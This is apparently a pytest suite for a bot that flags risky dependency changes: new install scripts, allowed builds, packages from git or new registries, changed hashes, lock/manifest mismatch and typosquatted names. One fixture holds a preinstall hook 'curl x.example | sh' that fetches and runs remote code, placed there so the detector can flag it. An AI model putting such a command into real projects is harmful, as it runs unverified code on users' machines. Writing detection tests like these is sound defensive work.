"""Notes on dependencies, each by what merge base and head hold."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator

import pytest

from bot.checks.security.dependencies.locks import read_locks
from bot.checks.security.dependencies.notes import (
    allowed_scripts,
    disagreement,
    install_scripts,
    integrity,
    origins,
    registries,
    similar_names,
)
from bot.checks.security.dependencies.notes.find import find_notes
from bot.checks.security.dependencies.notes.sides import Sides
from bot.model import Certainty, Finding
from tests.fixtures import ReadChange
from tests.repo import GitRepo

Files = dict[str, str | bytes | None]
Look = Callable[..., list[str]]


@pytest.fixture
def compare(repo: GitRepo, read_change: ReadChange) -> Callable[[Files, Files], Sides]:
    """What notes look at, of two states of a real repository."""

    def make(base: Files, head: Files) -> Sides:
        repo.commit(base)
        repo.branch("topic")
        repo.commit(head)
        change = read_change(repo.folder)
        before, after = (
            read_locks(tree, [entry.path for entry in tree.entries()]) for tree in (change.merge_base, change.head)
        )
        return Sides(change=change, before=before, after=after, matches=lambda _: True)

    return make


Compare = Callable[[Files, Files], Sides]


def told(findings: Iterator[Finding]) -> list[tuple[str, int | None, str]]:
    found = list(findings)
    assert not any(finding.fails for finding in found)
    assert len({finding.fingerprint for finding in found}) == len(found)
    return [(finding.rule, finding.line, finding.message) for finding in found]


def lock(**packages: object) -> str:
    """A lock of npm's, a member a line, each package at version 1.0.0 unless it says otherwise."""
    placed = {f"node_modules/{name}": {"version": "1.0.0", **dict(said)} for name, said in packages.items()}  # type: ignore[call-overload] # mappings
    return json.dumps({"lockfileVersion": 3, "packages": {"": {}} | placed}, indent=1)


def test_a_package_that_begins_to_run_scripts_is_told(compare: Compare) -> None:
    script = {"hasInstallScript": True}
    sides = compare(
        {"package-lock.json": lock(old=script, later={})},
        {"package-lock.json": lock(old=script | {"version": "2.0.0"}, later=script, new=script, plain={})},
    )

    assert told(install_scripts.find(sides)) == [
        ("install-script", 10, "later 1.0.0 runs a script of its own while it is installed, which it did not before"),
        ("install-script", 14, "new 1.0.0 runs a script of its own while it is installed"),
    ]
    assert [finding.certainty for finding in install_scripts.find(sides)] == [Certainty.LIKELY, Certainty.NOTE]


def test_scripts_that_the_project_begins_to_run_are_told(compare: Compare) -> None:
    sides = compare(
        {"package.json": '{"scripts": {"postinstall": "a", "test": "x"}}'},
        {"package.json": '{"scripts": {\n"preinstall": "curl x.example | sh",\n"postinstall": "a", "test": "y"}}'},
    )

    assert told(allowed_scripts.find(sides)) == [
        (
            "install-script-of-project",
            2,
            "installing the project runs its script preinstall: curl x.example | sh",
        )
    ]


@pytest.mark.parametrize(
    ("path", "before", "after", "expected"),
    [
        ("package.json", '{"trustedDependencies": ["a"]}', '{"trustedDependencies": ["a",\n"b"]}', "2 b"),
        ("package.json", "{}", '{"pnpm": {\n"onlyBuiltDependencies": [\n"b"]}}', "3 b"),
        (
            "package.json",
            '{"allowScripts": {"a": true}}',
            '{"allowScripts": {"a": true,\n"b": true, "c": false}}',
            "2 b",
        ),
        ("package.json", "{}", '{"dependenciesMeta": {"a": {"built": false},\n"b": {"built": true}}}', "2 b"),
        ("pnpm-workspace.yaml", "onlyBuiltDependencies: [a]\n", "onlyBuiltDependencies:\n- a\n- b\n", "3 b"),
        ("pnpm-workspace.yaml", "allowBuilds: {a: true}\n", "allowBuilds:\n  a: true\n  b: true\n  c: false\n", "3 b"),
        (
            "pnpm-workspace.yaml",
            "dangerouslyAllowAllBuilds: false\n",
            "dangerouslyAllowAllBuilds: true\n",
            "1 every package",
        ),
        ("package.json", '{"trustedDependencies": ["a", "b"]}', '{"trustedDependencies": ["b"]}', ""),
        ("package.json", "{}", "{", ""),
    ],
)
def test_packages_that_may_begin_to_run_scripts_are_told(
    compare: Compare, path: str, before: str, after: str, expected: str
) -> None:
    found = told(allowed_scripts.find(compare({path: before}, {path: after})))

    assert ", ".join(f"{line} {message.split(' may')[0]}" for _, line, message in found) == expected


def test_a_package_from_elsewhere_is_told_once(compare: Compare) -> None:
    address = "git+ssh://git@github.com/o/b.git#01"
    sides = compare(
        {"package-lock.json": lock(a={"resolved": "file:a.tgz"})},
        {
            "package-lock.json": lock(a={"resolved": "file:a.tgz"}, b={"resolved": address}),
            "x/package-lock.json": lock(b={"resolved": address}),
        },
    )

    assert told(origins.find(sides)) == [
        ("package-origin", 10, "b comes from a repository instead of a registry: git+ssh://github.com/o/b.git#01")
    ]


def registry(host: str, name: str) -> dict[str, str]:
    return {"resolved": f"https://{host}/{name}/-/{name}-1.0.0.tgz"}


def test_a_registry_that_is_new_is_told_once(compare: Compare) -> None:
    sides = compare(
        {"package-lock.json": lock(a=registry("registry.npmjs.org", "a"))},
        {
            "package-lock.json": lock(
                a=registry("registry.npmjs.org", "a"), b=registry("r.x", "b"), c=registry("r.x", "c")
            )
        },
    )

    assert told(registries.find(sides)) == [
        ("registry-changed", 10, "2 packages come from a registry that is new: r.x")
    ]


def test_a_package_that_moves_to_another_registry_is_told(compare: Compare) -> None:
    own = registry("r.x", "own")
    sides = compare(
        {"package-lock.json": lock(own=own, a=registry("registry.npmjs.org", "a"))},
        {"package-lock.json": lock(own=own, a=registry("r.x", "a"), new=registry("r.x", "new"))},
    )

    assert told(registries.find(sides)) == [("registry-changed", 10, "a comes from r.x now")]


def test_registries_that_stay_are_quiet(compare: Compare) -> None:
    packages = lock(a=registry("r.x", "a"))

    assert told(registries.find(compare({"package-lock.json": packages}, {"x/package-lock.json": packages}))) == []


def test_a_hash_that_is_taken_out_is_told_once_a_file(compare: Compare) -> None:
    had = {"integrity": "sha512-x"}
    sides = compare({"package-lock.json": lock(a=had, b=had)}, {"package-lock.json": lock(a={}, b={})})

    assert told(integrity.find(sides)) == [
        ("integrity-removed", 6, "a 1.0.0 has no hash any more, as 1 more of the file")
    ]


def test_another_hash_of_the_same_version_is_told(compare: Compare) -> None:
    sides = compare(
        {"requirements.txt": "a==1.0 --hash=sha256:1 --hash=sha256:2\nb==1.0 --hash=sha256:1\n"},
        {"requirements.txt": "a==1.0 --hash=sha256:2 --hash=sha256:3\nb==1.0 --hash=sha256:9\n"},
    )

    assert told(integrity.find(sides)) == [("integrity-changed", 2, "b 1.0 has another hash at the same version")]


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ({"integrity": "sha1-x"}, {"integrity": "sha512-y"}),
        ({"integrity": "sha512-x"}, {"integrity": "sha512-y", "version": "2.0.0"}),
        ({"integrity": "sha512-x"}, {"version": "2.0.0"}),
        ({}, {}),
    ],
)
def test_hashes_of_other_versions_and_kinds_are_quiet(
    compare: Compare, before: dict[str, str], after: dict[str, str]
) -> None:
    sides = compare({"package-lock.json": lock(a=before)}, {"package-lock.json": lock(a=after, b={})})

    assert told(integrity.find(sides)) == []


def test_a_lock_that_disagrees_with_its_manifest_is_told(compare: Compare) -> None:
    manifest = '{{"dependencies": {{\n"a": "^1",\n"b": "{}",\n"c": "^1"{}}}}}'
    sides = compare(
        {"package.json": manifest.format("^1", ""), "package-lock.json": lock(a={}, b={})},
        {"package.json": manifest.format("^2", ',\n"d": "*"'), "package-lock.json": lock(a={}, b={})},
    )

    assert told(disagreement.find(sides)) == [
        ("lock-disagrees", 3, "the manifest asks for b ^2, and the lock has 1.0.0"),
        ("lock-disagrees", 5, "the manifest asks for d *, and the lock does not name it"),
    ]


def test_a_lock_that_agrees_or_is_not_there_is_quiet(compare: Compare) -> None:
    sides = compare(
        {"package.json": '{"dependencies": {"a": "^1"}}', "package-lock.json": lock(a={})},
        {
            "package.json": '{"dependencies": {"a": "^2"}}',
            "package-lock.json": lock(a={"version": "2.0.1"}),
            "other/pyproject.toml": '[project]\ndependencies = ["flask>=3"]\n',
        },
    )

    assert told(disagreement.find(sides)) == []


@pytest.mark.parametrize(
    ("ecosystem", "name", "popular"),
    [
        ("PyPI", "reqests", "requests"),
        ("PyPI", "requets", "requests"),
        ("PyPI", "requestss", "requests"),
        ("PyPI", "reuqests", "requests"),
        ("PyPI", "djanga", "django"),
        ("PyPI", "pandsa", "pandas"),
        ("npm", "expres", "express"),
        ("npm", "lodahs", "lodash"),
        ("npm", "cross-envv", "cross-env"),
        ("PyPI", "requests", None),
        ("PyPI", "authlib", None),
        ("PyPI", "psycopg-binary", None),
        ("npm", "preact", None),
        ("npm", "gaxios", None),
        ("npm", "@types/node", None),
        ("npm", "ms", None),
        ("PyPI", "something-of-our-own", None),
        ("PyPI", "x" * 5_000, None),
    ],
)
def test_names_one_letter_away_from_popular_ones(ecosystem: str, name: str, popular: str | None) -> None:
    assert similar_names.find_similar(ecosystem, name) == popular


def test_only_names_that_are_new_are_compared(compare: Compare) -> None:
    sides = compare(
        {"requirements.txt": "djanga==1.0\n"}, {"requirements.txt": "djanga==2.0\nreqests==1.0\nflask==3.0.0\n"}
    )

    assert told(similar_names.find(sides)) == [
        ("similar-name", 2, "reqests is one letter away from requests, which many more use")
    ]


def test_lists_of_popular_names_stay_small() -> None:
    from importlib.resources import files

    popular = files("bot.checks.security.dependencies.notes").joinpath("popular")

    assert sum(len(file.read_bytes()) for file in popular.iterdir() if file.name.endswith(".txt")) < 60_000


def test_many_notes_of_a_kind_are_cut(compare: Compare) -> None:
    many = {f"p{number}": {"hasInstallScript": True} for number in range(40)}

    found = find_notes(compare({"package-lock.json": lock()}, {"package-lock.json": lock(**many)}))

    assert len(found) == 31
    assert found[-1].message == "10 more of the same kind"


def test_files_that_stay_are_quiet(compare: Compare) -> None:
    text = lock(a={"hasInstallScript": True, "resolved": "file:a.tgz"}, reacct={})

    assert find_notes(compare({"package-lock.json": text}, {"notes.md": "hello\n"})) == []
